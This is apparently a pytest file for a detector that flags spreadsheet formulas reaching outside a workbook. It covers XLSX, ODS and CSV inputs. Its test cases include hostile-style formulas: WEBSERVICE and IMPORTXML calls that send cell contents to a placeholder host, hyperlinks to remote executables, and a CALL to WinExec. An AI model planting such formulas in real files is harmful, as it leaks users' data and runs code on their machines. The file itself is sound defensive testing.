import pytest

from gifthorse.inspect.detectors import office_formula as detector
from gifthorse.model.findings import Severity
from tests.samples.documents import open_document, package
from tests.samples.files import findings_of, severities

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW


def workbook(formula: str, part: str = "xl/worksheets/sheet1.xml", element: str = "f") -> bytes:
    told = formula.replace("&", "&amp;").replace("<", "&lt;")
    return package("xlsx", {part: f'<?xml version="1.0"?><x:w xmlns:x="m"><x:{element}>{told}</x:{element}></x:w>'.encode()})


OUTWARD = [
    ('WEBSERVICE("http://files.example.net/?"&A2)', MEDIUM),
    ('_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://files.example.net/a"),"//a")', MEDIUM),
    ("WEBSERVICE(B7)", MEDIUM),
    ('HYPERLINK("\\\\files.example.net\\s\\a.exe","Open")', MEDIUM),
    ('HYPERLINK("file://files.example.net/s/a.lnk")', MEDIUM),
    ('HYPERLINK("tools\\setup.exe","Open")', MEDIUM),
    ('HYPERLINK("http://files.example.net/?"&A1&B1,"Details")', LOW),
    ("'\\\\files.example.net\\s\\[b.xlsx]S'!A1", MEDIUM),
    ("INDIRECT(\"'\\\\files.example.net\\s\\[a.xls]S'!A1\")", MEDIUM),
    ('_xlfn.IMAGE("http://files.example.net/i.png?"&A1)', MEDIUM),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', HIGH),
]
INWARD = [
    "SUM(A1:A9)",
    'HYPERLINK("https://example.org/report","Report")',
    'HYPERLINK("#\'Sheet 2\'!A1","Go")',
    'HYPERLINK("mailto:ann@example.org","Write")',
    '_xlfn.IMAGE("https://example.org/logo.png")',
    "'C:\\Users\\ann\\[book.xlsx]S'!A1",
    "'[1]Sheet 1'!A1&\"http://example.org\"",
    'IF(A1="\\\\","a","b")',
    "'\\\\server\\share\\[book.xlsx]S'!A1",
    'CONCATENATE("https://example.org/?q=",A1)',
]


@pytest.mark.parametrize(("formula", "severity"), OUTWARD)
def test_a_formula_that_reaches_out_is_found(formula: str, severity: Severity) -> None:
    assert severities(detector, workbook(formula), "a.xlsx") == [severity]


@pytest.mark.parametrize("formula", INWARD)
def test_a_formula_that_stays_inside_is_silent(formula: str) -> None:
    assert severities(detector, workbook(formula), "a.xlsx") == []


@pytest.mark.parametrize(("part", "element"), [("xl/workbook.xml", "definedName"), ("xl/worksheets/s9.xml", "formula1")])
def test_names_and_rules_hold_formulas_too(part: str, element: str) -> None:
    assert severities(detector, workbook('WEBSERVICE("http://files.example.net/"&A1)', part, element), "a.xlsx") == [MEDIUM]


def test_open_document_tables_are_read() -> None:
    cell = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://files.example.net/?&quot;&amp;[.A1])"/>'
    assert severities(detector, open_document(content=cell, kind="spreadsheet"), "a.ods") == [MEDIUM]


@pytest.mark.parametrize(
    ("table", "severity"),
    [
        (b'id,name\n1,"=WEBSERVICE(""http://files.example.net/?""&A2)"\n', MEDIUM),
        (b'=HYPERLINK("\\\\files.example.net\\s\\a.exe";"Open");2\n', MEDIUM),
        (b'a\t=IMPORTXML(CONCAT("http://files.example.net/?v=",A1),"//a")\n', MEDIUM),
    ],
)
def test_cells_of_a_text_table_are_read_where_they_begin_a_formula(table: bytes, severity: Severity) -> None:
    found = findings_of(detector, table, "a.csv")
    assert [finding.severity for finding in found] == [severity]
    offset = found[0].evidence[0].offset
    assert offset is not None
    assert table[offset : offset + 1] == b"="
    assert severities(detector, table, "a.txt") == []


def test_a_table_in_two_byte_letters_is_read() -> None:
    table = 'a;"=WEBSERVICE(""http://files.example.net/?""&A2)"\n'.encode("utf-16")
    assert severities(detector, table, "a.csv") == [MEDIUM]


@pytest.mark.parametrize(
    "table", [b"a,b\n-5,+3\n", b'note,"see =WEBSERVICE(x)"\n', b"path,\\\\server\\share\\a\n", b"=SUM(A1:A3),HYPERLINK\n"]
)
def test_ordinary_tables_are_silent(table: bytes) -> None:
    assert severities(detector, table, "a.csv") == []


def test_each_reach_is_told_once_with_its_machine() -> None:
    cells = "".join(f'<f>WEBSERVICE("http://host{n % 2}.example.net/"&amp;A{n})</f>' for n in range(50))
    found = findings_of(detector, package("xlsx", {"xl/worksheets/s.xml": f"<w>{cells}</w>".encode()}), "a.xlsx")
    assert [finding.detail.values["host"] for finding in found if finding.detail] == ["host0.example.net", "host1.example.net"]
